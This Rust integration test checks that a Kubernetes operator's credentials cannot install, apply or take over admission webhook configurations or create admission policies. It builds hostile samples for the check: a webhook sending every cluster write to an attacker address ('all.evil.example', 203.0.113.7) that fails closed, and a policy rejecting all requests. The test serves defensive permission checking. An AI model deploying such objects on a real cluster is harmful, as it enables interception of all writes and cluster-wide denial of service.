//! The operator's own credentials, as an attacker who took over its Pod
//! would hold them: no admission configuration of its own making (one that
//! routes every request to her, or refuses them all), no patching anyone
//! else's, no policies; only its own two configurations, by name.

use driftwarden::webhook::configuration;
use k8s_openapi::api::admissionregistration::v1::{
    MutatingWebhookConfiguration, ValidatingAdmissionPolicy, ValidatingWebhookConfiguration,
};
use kube::Client;
use kube::api::{Api, Patch, PatchParams, PostParams};
use serde_json::json;

use crate::common::setup;
use crate::support::api_error;

/// A webhook that sends every write in the cluster to an address of the
/// attacker's choosing, and refuses them all while it does not answer.
fn everything_to(name: &str) -> serde_json::Value {
    json!({
        "metadata": {"name": name},
        "webhooks": [{
            "name": "all.evil.example", "clientConfig": {"url": "https://203.0.113.7/hook"},
            "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*/*"]}],
            "failurePolicy": "Fail", "sideEffects": "None", "admissionReviewVersions": ["v1"],
        }],
    })
}

#[tokio::test]
async fn the_operators_token_cannot_install_or_take_over_admission_configuration() {
    let t = setup("operator-rbac", json!({})).await;
    let config = driftwarden::connect::kubeconfig_file(t.operator.kubeconfig(), &Default::default()).await.unwrap();
    let operator = Client::try_from(config).unwrap();
    let create = PostParams::default();

    let validating: Api<ValidatingWebhookConfiguration> = Api::all(operator.clone());
    let evil: ValidatingWebhookConfiguration = serde_json::from_value(everything_to("dw-evil-validating")).unwrap();
    let (code, message) = api_error(validating.create(&create, &evil).await);
    assert_eq!(code, 403, "{message}");
    let mutating: Api<MutatingWebhookConfiguration> = Api::all(operator.clone());
    let evil: MutatingWebhookConfiguration = serde_json::from_value(everything_to("dw-evil-mutating")).unwrap();
    let (code, message) = api_error(mutating.create(&create, &evil).await);
    assert_eq!(code, 403, "{message}");
    // Server-side apply creates what is missing: refused the same way.
    let apply = PatchParams::apply("evil").force();
    let (code, message) = api_error(validating.patch("dw-evil-applied", &apply, &Patch::Apply(&evil)).await);
    assert_eq!(code, 403, "{message}");

    // Someone else's configuration is not the operator's to rewrite.
    let admin: Api<ValidatingWebhookConfiguration> = Api::all(t.env.admin.clone());
    let theirs: ValidatingWebhookConfiguration =
        serde_json::from_value(json!({"metadata": {"name": "dw-someone-elses"}})).unwrap();
    admin.create(&create, &theirs).await.unwrap();
    let takeover = everything_to("dw-someone-elses");
    let (code, message) = api_error(validating.patch("dw-someone-elses", &apply, &Patch::Apply(&takeover)).await);
    assert_eq!(code, 403, "{message}");
    admin.delete("dw-someone-elses", &Default::default()).await.unwrap();

    let policies: Api<ValidatingAdmissionPolicy> = Api::all(operator.clone());
    let policy: ValidatingAdmissionPolicy = serde_json::from_value(json!({
        "metadata": {"name": "dw-evil-policy"},
        "spec": {"matchConstraints": {"resourceRules": [{"apiGroups": ["*"], "apiVersions": ["*"],
                 "operations": ["*"], "resources": ["*"]}]}, "validations": [{"expression": "false"}]},
    }))
    .unwrap();
    let (code, message) = api_error(policies.create(&create, &policy).await);
    assert_eq!(code, 403, "{message}");

    // Its own, by name: what it needs to keep the caBundle current.
    for name in [configuration::NAME, configuration::WRITES_NAME] {
        validating.get(name).await.unwrap_or_else(|e| panic!("the operator cannot read its own {name}: {e}"));
    }
    mutating.get(configuration::NAME).await.unwrap();
}
